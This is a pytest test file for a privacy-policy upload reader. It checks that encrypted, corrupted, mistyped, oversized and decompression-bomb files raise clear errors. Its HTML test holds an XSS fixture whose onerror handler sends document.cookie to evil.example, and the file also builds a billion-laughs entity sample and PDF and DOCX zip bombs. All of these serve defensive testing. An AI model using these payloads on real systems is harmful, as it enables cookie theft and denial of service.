"""Hostile, broken and odd uploads: each ends in a clear product error or a careful read.

Whatever the bytes, `read_document` raises nothing but `ExtractError` subclasses, stays
within its memory and time limits, and says in plain words what went wrong.
"""
from __future__ import annotations

import dataclasses
import io
import os
import random
import resource
import time
import tracemalloc
import unicodedata
import zipfile

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

import extract.read as read
from extract.errors import (
    CorruptFile,
    EmptyFile,
    EncryptedPDF,
    ExtractError,
    FileTooLarge,
    NoPolicyText,
    ScannedPDF,
    UnsupportedFileType,
)
from extract.read import NOT_ENGLISH_WARNING, SUPPORTED_SUFFIXES, read_document, read_path
from tests.pdfs import (
    aes_encrypted_pdf,
    bomb_pdf,
    encrypted_pdf,
    many_pages_pdf,
    pdf_from_text,
    scanned_pdf,
)

POLICY = ("Privacy Policy\n"
          "We collect your name and email address to run your account.\n"
          "We keep your data for as long as your account is open.\n")


@pytest.fixture
def limits(monkeypatch):
    """Set some limits for one test: `limits(max_pages=5)`."""
    def apply(**changes):
        monkeypatch.setattr(read, "LIMITS", dataclasses.replace(read.LIMITS, **changes))
    return apply


# --------------------------------------------------------------------------- encryption


def test_pdf_with_a_user_password_is_refused_with_advice():
    with pytest.raises(EncryptedPDF, match=r"^This PDF is encrypted with a password"):
        read_document(encrypted_pdf(POLICY, user_password="secret"), "locked.pdf")


def test_pdf_with_owner_only_encryption_reads_normally():
    doc = read_document(encrypted_pdf(POLICY, user_password=""), "restricted.pdf")
    assert "We keep your data for as long as your account is open." in doc.text


def test_aes_256_owner_only_pdf_reads_and_with_a_user_password_is_refused():
    # Requires `cryptography` (in requirements.txt): many vendors' "protected" PDFs are AES.
    doc = read_document(encrypted_pdf(POLICY, user_password="", algorithm="AES-256"), "a.pdf")
    assert "We keep your data for as long as your account is open." in doc.text
    with pytest.raises(EncryptedPDF, match="encrypted with a password"):
        read_document(encrypted_pdf(POLICY, algorithm="AES-256"), "b.pdf")


def test_aes_pdf_without_a_crypto_library_names_the_missing_package(monkeypatch):
    # `cryptography` is in requirements.txt; an install without it (pypdf raises
    # DependencyError when it meets AES) must still say what is missing.
    import pypdf

    def no_aes(self, password):
        raise pypdf.errors.DependencyError("cryptography>=3.1 is required for AES algorithm")

    monkeypatch.setattr(pypdf.PdfReader, "decrypt", no_aes)
    with pytest.raises(EncryptedPDF, match="cryptography"):
        read_document(aes_encrypted_pdf(POLICY), "aes.pdf")


# --------------------------------------------------------------------------- damaged files


def test_scanned_pdf_without_text_layer_is_refused():
    with pytest.raises(ScannedPDF, match="no text layer"):
        read_document(scanned_pdf(pages=2), "scan.pdf")


def test_truncated_pdf_is_reported_as_incomplete():
    # Decision: pypdf cannot rebuild a PDF whose trailer and cross-reference table are cut
    # off, so a truncated upload is refused (CorruptFile) with a hint to download it again.
    data = pdf_from_text(POLICY * 20)
    with pytest.raises(CorruptFile, match="incomplete"):
        read_document(data[: len(data) // 2], "cut.pdf")


@pytest.mark.parametrize("data", [
    os.urandom(4000),
    b"%PDF-1.7\n" + random.Random(1).randbytes(4000),
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF",
], ids=["random", "pdf-header-then-noise", "no-pages"])
def test_bytes_that_are_not_a_readable_pdf_are_corrupt(data):
    with pytest.raises(CorruptFile):
        read_document(data, "policy.pdf")


def test_zero_bytes_are_an_empty_file():
    for suffix in SUPPORTED_SUFFIXES:
        with pytest.raises(EmptyFile, match="empty"):
            read_document(b"", f"policy{suffix}")


def test_text_without_letters_has_no_policy_text():
    with pytest.raises(NoPolicyText):
        read_document(b" \n 12 34 \n -- \n", "blank.txt")


def test_binary_garbage_named_txt_is_corrupt():
    with pytest.raises(CorruptFile, match="binary"):
        read_document(bytes(range(256)) * 20, "policy.txt")


# --------------------------------------------------------------------------- file types


@pytest.mark.parametrize("name", ["setup.exe", "scan.png", "policy.doc", "policy", "notes.rtf"])
def test_unsupported_suffix_names_the_accepted_types(name):
    with pytest.raises(UnsupportedFileType, match=r"PDF, TXT, Markdown \(\.md\), HTML or Word"):
        read_document(b"MZ\x90\x00 whatever", name)


def test_image_renamed_to_txt_is_unsupported():
    with pytest.raises(UnsupportedFileType, match="PNG image"):
        read_document(b"\x89PNG\r\n\x1a\n" + bytes(100), "policy.txt")


def test_text_renamed_to_pdf_is_corrupt():
    with pytest.raises(CorruptFile, match="not a PDF"):
        read_document(POLICY.encode(), "policy.pdf")


def test_zip_of_something_else_named_docx_is_not_a_word_document():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("photos/cat.txt", "meow")
    with pytest.raises(CorruptFile, match="is not a Word document"):
        read_document(buf.getvalue(), "policy.docx")


def test_text_named_docx_is_not_a_word_document():
    with pytest.raises(CorruptFile, match="is not a Word document"):
        read_document(POLICY.encode(), "policy.docx")


# --------------------------------------------------------------------------- size and bombs


def test_upload_over_the_size_limit_is_refused(limits, tmp_path):
    limits(max_bytes=1000)
    with pytest.raises(FileTooLarge, match="MB upload limit"):
        read_document(b"a" * 1001, "big.txt")
    path = tmp_path / "big.txt"
    path.write_bytes(b"a" * 1001)
    with pytest.raises(FileTooLarge):
        read_path(path)


def test_text_over_the_character_limit_is_refused(limits):
    limits(max_chars=1000)
    with pytest.raises(FileTooLarge, match="1,000 characters"):
        read_document(("We collect data. " * 100).encode(), "long.txt")


def test_pdf_over_the_page_limit_is_refused():
    with pytest.raises(FileTooLarge, match="1,001 pages; the limit is 1,000"):
        read_document(many_pages_pdf(1001), "huge.pdf")


def test_pdf_page_limit_is_configurable(limits):
    limits(max_pages=5)
    assert len(read_document(many_pages_pdf(5), "ok.pdf").pages) == 5
    with pytest.raises(FileTooLarge, match="6 pages; the limit is 5"):
        read_document(many_pages_pdf(6), "six.pdf")


def test_pdf_with_hundreds_of_pages_reads_within_limits():
    doc = read_document(many_pages_pdf(500), "long.pdf")
    assert len(doc.pages) == 500
    offset = doc.text.index("Section 321. We keep login record number 321 for")
    assert doc.page_at(offset) == 321


def test_pdf_time_budget_is_enforced(limits):
    limits(max_pdf_seconds=0)
    with pytest.raises(FileTooLarge, match="took longer than 0 seconds"):
        read_document(many_pages_pdf(3), "slow.pdf")


def test_pdf_time_budget_also_stops_inside_a_slow_page(limits):
    # One page of 75,000 text operators: within the parsing limits, but slow to extract.
    limits(max_pdf_seconds=0.2)
    with pytest.raises(FileTooLarge, match="stopped at page 1 of 1"):
        read_document(bomb_pdf(inflated_mb=1, chunk=b"(xxxxxxxx) Tj "), "slow.pdf")


def memory_growth_mb(action, *, trace: bool = True) -> tuple[float, float, BaseException | None]:
    """Run `action`; return (Python heap peak MB, process max-RSS growth MB, its error).

    tracemalloc slows allocation-heavy work (parsing) several-fold; `trace=False` measures
    the process's peak resident size only (peak is then reported as 0).
    """
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    if trace:
        tracemalloc.start()
    error = None
    try:
        action()
    except BaseException as exc:  # noqa: BLE001 - returned for the test to inspect
        error = exc
    peak = tracemalloc.get_traced_memory()[1] / 2**20 if trace else 0.0
    tracemalloc.stop()
    rss_growth = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024 - rss_before
    return peak, rss_growth, error


def test_decompression_bomb_is_refused_with_bounded_memory():
    bomb = bomb_pdf(inflated_mb=320)  # ~330 KB on disk, 320 MB of content when inflated
    assert len(bomb) < 1_000_000
    start = time.monotonic()
    peak, rss_growth, error = memory_growth_mb(lambda: read_document(bomb, "bomb.pdf"))
    assert isinstance(error, FileTooLarge), error
    assert "16 MB" in str(error)
    # pypdf alone stops at 75 MB (peak ~145 MB); our 16 MB cap keeps the peak far lower.
    assert peak < 100 and rss_growth < 300
    assert time.monotonic() - start < 20


def test_content_stream_of_endless_operators_is_refused_quickly():
    # 8 MB of "(x) Tj": well under the inflate cap, but millions of operators to parse.
    bomb = bomb_pdf(inflated_mb=8, chunk=b"(x) Tj ")
    start = time.monotonic()
    _, rss_growth, error = memory_growth_mb(lambda: read_document(bomb, "ops.pdf"), trace=False)
    assert isinstance(error, FileTooLarge), error
    assert "drawing operations" in str(error)
    assert rss_growth < 300 and time.monotonic() - start < 15


def docx(document_xml: bytes | str, **zip_args) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, **zip_args) as zf:
        zf.writestr("word/document.xml", document_xml)
    return buf.getvalue()


def test_docx_zip_bomb_is_refused_before_unpacking():
    xml = b'<w:document xmlns:w="x"><w:body>' + b" " * (4 * 2**20) + b"</w:body></w:document>"
    data = docx(xml, compresslevel=9)
    assert len(data) < 20_000
    with pytest.raises(FileTooLarge, match="zip bomb"):
        read_document(data, "bomb.docx")


def test_docx_over_the_unpacked_limit_is_refused(limits):
    limits(max_docx_uncompressed=1000)
    xml = f'<w:document xmlns:w="x"><w:body>{"<w:p/>" * 500}</w:body></w:document>'
    with pytest.raises(FileTooLarge, match="unpacks to more than"):
        read_document(docx(xml), "big.docx")


def test_docx_with_entity_declarations_is_refused():
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
              '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
              "<w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>")
    with pytest.raises(CorruptFile, match="XML"):
        read_document(docx(laughs), "laughs.docx")


def test_docx_with_broken_xml_is_corrupt():
    with pytest.raises(CorruptFile, match="damaged"):
        read_document(docx("<w:document><w:body><w:p>"), "broken.docx")


# --------------------------------------------------------------------------- content


def test_script_and_event_handlers_never_reach_the_text():
    page = """<html><body>
    <p onclick="alert('HANDLER_1')">We collect your email address.</p>
    <img src=x onerror="fetch('https://evil.example/'+document.cookie)">
    <script>document.write('SCRIPT_TEXT')</script>
    <script type="text/template"><p>TEMPLATE_TEXT</p></script>
    <style>p::after { content: 'STYLE_TEXT' }</style>
    <svg><text>SVG_TEXT</text><script>SVG_SCRIPT</script></svg>
    <iframe srcdoc="<p>IFRAME_TEXT</p>"></iframe>
    <a href="javascript:alert('HREF_TEXT')">Contact us</a>
    </body></html>"""
    doc = read_document(page.encode(), "xss.html")
    assert doc.text == "We collect your email address.\nContact us"
    for marker in ("HANDLER", "evil", "SCRIPT", "TEMPLATE", "STYLE", "SVG", "IFRAME", "HREF",
                   "onerror", "alert"):
        assert marker not in doc.text


GERMAN = ("Datenschutzerklärung\nWir erheben Ihren Namen und Ihre E-Mail-Adresse, um Ihr Konto "
          "zu führen. Ihre Daten werden gelöscht, sobald Ihr Konto geschlossen wird. Sie haben "
          "das Recht auf Auskunft, Berichtigung und Löschung Ihrer personenbezogenen Daten. "
          "Wir geben Ihre Daten nicht an Dritte weiter, es sei denn, wir sind gesetzlich dazu "
          "verpflichtet. Die Verarbeitung erfolgt auf Grundlage von Art. 6 DSGVO.\n")
FRENCH = ("Politique de confidentialité\nNous collectons votre nom et votre adresse "
          "électronique afin de gérer votre compte. Vos données sont supprimées lorsque votre "
          "compte est fermé. Vous disposez d’un droit d’accès, de rectification et "
          "d’effacement de vos données personnelles. Nous ne vendons jamais vos données à des "
          "tiers et nous ne les transférons hors de l’Union européenne qu’avec des garanties.\n")


@pytest.mark.parametrize("text", [GERMAN, FRENCH], ids=["german", "french"])
def test_non_english_policy_is_read_with_a_warning(text):
    doc = read_document(pdf_from_text(text), "policy.pdf")
    assert "Konto" in doc.text or "compte" in doc.text
    assert NOT_ENGLISH_WARNING in doc.warnings
    assert NOT_ENGLISH_WARNING in read_document(text.encode("utf-8"), "policy.txt").warnings


def test_english_policy_gets_no_language_warning():
    text = POLICY + ("We share data with processors that host our service and we require "
                     "them to protect it. You may ask us for a copy of your data at any time. ") * 3
    assert read_document(text.encode(), "policy.txt").warnings == ()


def test_text_in_an_unknown_single_byte_encoding_is_read_with_a_warning():
    # 0x81 is undefined in Windows-1252, so only the Latin-1 fallback can decode this.
    data = "Données personnelles: nous collectons vos données.".encode("latin-1") + b"\x81"
    doc = read_document(data, "policy.txt")
    assert doc.text.startswith("Données personnelles: nous collectons vos données.")
    assert any("Latin-1" in w for w in doc.warnings)


def test_mostly_utf8_with_a_stray_byte_keeps_utf8():
    data = "Privacy – “our” policy – data ‘you’ give.".encode() + b"\xff"
    doc = read_document(data, "policy.txt")
    assert doc.text.startswith("Privacy – “our” policy – data ‘you’ give.")
    assert any("invalid characters" in w for w in doc.warnings)


# --------------------------------------------------------------------------- properties


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.one_of(
           st.binary(max_size=3000),
           st.builds(lambda head, tail: head + tail,
                     st.sampled_from([b"%PDF-1.4\n", b"PK\x03\x04", b"\xef\xbb\xbf", b"\xff\xfe",
                                      b"<html><body>", b"# Title\n"]),
                     st.binary(max_size=2000))),
       suffix=st.sampled_from(SUPPORTED_SUFFIXES),
       stem=st.text(max_size=20))
def test_any_bytes_raise_only_product_errors(data, suffix, stem):
    try:
        doc = read_document(data, stem + suffix)
    except ExtractError as exc:
        assert str(exc)
    else:
        assert any(ch.isalpha() for ch in doc.text)
        assert doc.pages[-1].end == len(doc.text)


def letters(text: str) -> list[str]:
    return [ch for ch in unicodedata.normalize("NFKC", text) if ch.isalpha()]


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.one_of(
    st.characters(blacklist_categories=("Cs", "Cc")),
    st.sampled_from(list("\n\n \t\u00a0\u200b\u00ad-•*#()[]")),
), max_size=400))
def test_txt_reader_never_loses_letters(text):
    assume(any(ch.isalpha() for ch in text))
    assume(not text.lstrip().lower().startswith(("<html", "<!doctype", "%pdf-")))
    doc = read_document(text.encode("utf-8"), "policy.txt")
    assert letters(doc.text) == letters(text)
